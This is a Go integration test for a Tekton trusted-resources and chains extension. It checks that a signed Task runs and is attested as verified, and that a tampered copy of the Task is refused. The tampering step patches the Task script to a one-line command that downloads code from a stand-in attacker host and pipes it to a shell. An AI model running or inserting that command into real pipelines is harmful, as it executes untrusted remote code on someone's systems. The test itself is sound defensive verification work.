// SPDX-License-Identifier: Apache-2.0

//go:build realnode

package realnode

import (
	"fmt"
	"testing"

	v1 "github.com/tektoncd/pipeline/pkg/apis/pipeline/v1"
	"github.com/tektoncd/pipeline/pkg/trustedresources"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"knative.dev/pkg/apis"

	"github.com/trusted-resources/chains-extension/test/harness"
)

const refused = "ResourceVerificationFailed"

// The story of make demo, with containers: our Pod signs a Task, Tekton accepts the Task
// under an enforce policy, a container runs the script and produces the result, the
// attestation says that the Task was verified, and Tekton refuses the changed Task.
func TestStory_SignedTaskRunsAndChangedTaskIsRefused(t *testing.T) {
	e := install(t)
	ns := e.namespace()
	e.check(cluster.Trust(t.Context(), ns, installed.public))
	e.createTask(task(ns, "hello", `printf 'hello from %s' "$(cat /etc/os-release 2>/dev/null || echo a container)" > "$(results.greeting.path)"`))
	e.waitSigned(ns, "hello", soon)

	run := e.runTask(ns, "hello")
	if !succeeded(run).IsTrue() || !run.Status.GetCondition(trustedresources.ConditionTrustedResourcesVerified).IsTrue() {
		t.Fatalf("the run of the signed Task: %+v", run.Status.Conditions)
	}
	if len(run.Status.Results) != 1 || run.Status.Results[0].Value.StringVal != "hello from a container" {
		t.Errorf("results %+v, want what the script wrote in a container", run.Status.Results)
	}
	e.attested(run)

	e.stopController()
	_, err := cluster.Tekton.TektonV1().Tasks(ns).Patch(t.Context(), "hello", types.JSONPatchType,
		[]byte(`[{"op":"replace","path":"/spec/steps/0/script","value":"wget -O- evil.example | sh"}]`), metav1.PatchOptions{})
	e.check(err)
	run = e.runTask(ns, "hello")
	if condition := succeeded(run); !condition.IsFalse() || condition.Reason != refused {
		t.Errorf("the run of the changed Task: %s %s: %s, want it refused with %s", condition.Status, condition.Reason, condition.Message, refused)
	}
	if run.Status.PodName != "" {
		t.Errorf("the refused run has Pod %s", run.Status.PodName)
	}
}

// runTask runs a Task by the cluster resolver and waits until the run has ended.
func (e env) runTask(namespace, name string) *v1.TaskRun {
	e.t.Helper()
	run, err := cluster.RunTask(e.t.Context(), namespace, name, nil, afterStart)
	e.check(err)
	return run
}

func succeeded(run *v1.TaskRun) *apis.Condition {
	return run.Status.GetCondition(apis.ConditionSucceeded)
}

// attested waits for the attestation of a run. It must verify, and say that the only
// resource of the run was verified.
func (e env) attested(run *v1.TaskRun) {
	e.t.Helper()
	var provenance *harness.Provenance
	e.eventually(soon, func() error {
		got, err := cluster.Tekton.TektonV1().TaskRuns(run.Namespace).Get(e.t.Context(), run.Name, metav1.GetOptions{})
		if err != nil {
			return err
		}
		statement, err := harness.Attestation(got, harness.TaskRun, installed.public)
		if err == nil {
			provenance, err = harness.ParseProvenance(statement)
		}
		return err
	})
	verifications, err := provenance.Verifications()
	e.check(err)
	if len(verifications) != 1 || verifications[0].Result != "PASSED" {
		e.t.Errorf("the attestation has the verifications %+v, want one that PASSED", verifications)
	}
}

// stopController scales the Deployment to zero until the test ends.
func (e env) stopController() {
	e.t.Helper()
	e.kubectl("-n", harness.SystemNamespace, "scale", "deployment", deployment, "--replicas=0")
	e.eventually(afterStart, func() error {
		if left := e.kubectl("-n", harness.SystemNamespace, "get", "pods", "-l", "app="+deployment, "-o", "name"); left != "" {
			return fmt.Errorf("still running: %s", left)
		}
		return nil
	})
}
